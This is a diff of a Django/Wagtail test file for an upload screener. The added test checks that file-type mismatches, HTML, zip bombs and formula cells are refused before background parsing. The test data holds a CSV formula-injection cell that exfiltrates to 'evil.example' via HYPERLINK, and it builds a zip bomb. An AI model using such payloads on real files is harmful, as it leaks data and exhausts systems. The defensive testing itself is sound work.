@@ -12,6 +12,7 @@ import os
 import struct
 import subprocess
 import sys
+import zipfile
 import zlib
 
 import pytest
@@ -25,7 +26,7 @@ from wagtail.documents import get_document_model
 from wagtail.images import get_image_model
 from wagtail.models import Collection, UploadedFile
 
-from resources.demo.files import make_pdf
+from resources.demo.files import make_docx, make_pdf
 from resources.files import check_image, check_upload, clean_filename, extract, text_of
 from resources.indexing.documents import file_text
 from resources.models import FileText
@@ -33,6 +34,7 @@ from resources.review.sharing import pending_files
 
 from .builders import make_tool
 from .conftest import login
+from .test_extract import make_bomb
 from .workflow import CLEAN_PDF_LINES, MRN_PDF_LINES, TITLE, share_data
 
 Document = get_document_model()
@@ -322,7 +324,7 @@ def test_csv_formula_cells_are_findings_with_their_cell():
         ["Lakeside", '=HYPERLINK("http://evil.example/?"&A1)', "@SUM(1)"],
         ["Valley", "\tcmd", "-2.5%"],
     ]
-    findings = check_upload(io.BytesIO(csv_bytes(rows)), "sites.csv", health_information=False)
+    findings = check_upload(io.BytesIO(csv_bytes(rows)), "sites.csv", screened_later=True)
     assert [(f.kind, f.location) for f in findings] == [
         ("formula-cell", "row 4"),
         ("formula-cell", "row 4"),
@@ -350,7 +352,7 @@ def test_xlsx_text_cells_that_look_like_formulas_are_findings():
     cell.data_type = "s"  # stored as text, as a CSV converted to XLSX would be
     out = io.BytesIO()
     workbook.save(out)
-    findings = check_upload(io.BytesIO(out.getvalue()), "measures.xlsx", health_information=False)
+    findings = check_upload(io.BytesIO(out.getvalue()), "measures.xlsx", screened_later=False)
     assert [(f.kind, f.location) for f in findings] == [("formula-cell", "sheet Measures row 3")]
     assert findings[0].message.startswith("Cell B3 on sheet Measures of measures.xlsx starts with '='")
 
@@ -401,6 +403,41 @@ def test_a_shared_pdf_is_parsed_once_for_upload_screening_and_indexing(client, w
     assert "quillwort" in FileText.objects.get(sha256=digest).text
 
 
+def zip_of(parts):
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in parts.items():
+            archive.writestr(name, data)
+    return out.getvalue()
+
+
+@pytest.mark.django_db
+def test_a_file_screened_later_is_judged_by_what_it_is_without_being_parsed(worker_runs):
+    """/share/'s gate: no PDF or Office file is parsed in the request (the screening step reads it in
+    the background worker), yet what a file is, its limits and its name are refused at once."""
+    mrn_pdf = make_pdf(TITLE, MRN_PDF_LINES)
+    docx = make_docx(TITLE, ["A plain handout."])
+    assert check_upload(io.BytesIO(mrn_pdf), "huddle.pdf", screened_later=True) == []
+    assert check_upload(io.BytesIO(docx), "handout.docx", screened_later=True) == []
+    assert worker_runs == []
+
+    def refused(name, data):
+        return [(finding.kind, finding.message) for finding in check_upload(io.BytesIO(data), name, screened_later=True)]
+
+    assert refused("report.pdf", EXECUTABLE)[0][0] == "file-type"
+    assert "HTML" in refused("report.pdf", WEB_PAGE)[0][1]
+    assert "a ZIP archive" in refused("handout.docx", zip_of({"notes.txt": "hello"}))[0][1]
+    ((kind, message),) = refused("handout.xlsx", docx)
+    assert kind == "file-type" and "Word document" in message
+    assert refused("bomb.xlsx", make_bomb(210))[0][0] == "archive-size"
+    assert [kind for kind, _ in refused("counts.csv", csv_bytes([["Site", "Count"], ["A", "=1+1"]]))] == ["formula-cell"]
+    assert worker_runs == []
+
+    # Read through, as the screening step and the document admin read it, the same PDF is refused.
+    kinds = {finding.kind for finding in check_upload(io.BytesIO(mrn_pdf), "huddle.pdf", screened_later=False)}
+    assert "medical-record-number" in kinds and len(worker_runs) == 1
+
+
 @pytest.mark.django_db
 def test_text_is_kept_by_content_and_refusals_are_worded_for_each_name(worker_runs):
     data = make_pdf(TITLE, CLEAN_PDF_LINES)
@@ -418,7 +455,7 @@ def test_text_is_kept_by_content_and_refusals_are_worded_for_each_name(worker_ru
 @pytest.mark.django_db
 def test_a_refused_upload_leaves_no_text_behind():
     data = make_pdf(TITLE, MRN_PDF_LINES)
-    findings = check_upload(io.BytesIO(data), "list.pdf", health_information=True)
+    findings = check_upload(io.BytesIO(data), "list.pdf", screened_later=False)
     assert {f.kind for f in findings} >= {"medical-record-number", "date-of-birth"}
     assert not FileText.objects.filter(sha256=hashlib.sha256(data).hexdigest()).exists()
     assert not any("48213377" in stored.text for stored in FileText.objects.all())
